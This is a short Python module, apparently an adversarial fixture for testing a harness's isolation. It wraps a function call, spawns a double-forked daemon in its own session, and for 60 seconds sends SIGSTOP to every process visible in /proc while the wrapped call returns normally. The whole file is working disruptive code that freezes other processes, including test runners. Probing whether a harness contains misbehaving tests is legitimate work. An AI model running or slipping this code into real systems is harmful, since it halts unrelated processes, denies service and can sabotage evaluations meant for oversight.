"""Leaves a daemon, double-forked and in a session of its own, that attacks the next test."""

import os, signal, time


def during(name, honest, args, kwargs):
    if os.fork() == 0:
        os.setsid()
        for _ in range(3):
            if os.fork():
                os._exit(0)
            os.setsid()
        me, end = os.getpid(), time.time() + 60
        os.closerange(0, 300)
        while time.time() < end:
            for pid in filter(str.isdigit, os.listdir("/proc")):
                if int(pid) != me:
                    try:
                        os.kill(int(pid), signal.SIGSTOP)
                    except OSError:
                        pass
        os._exit(0)
    return honest(*args, **kwargs)
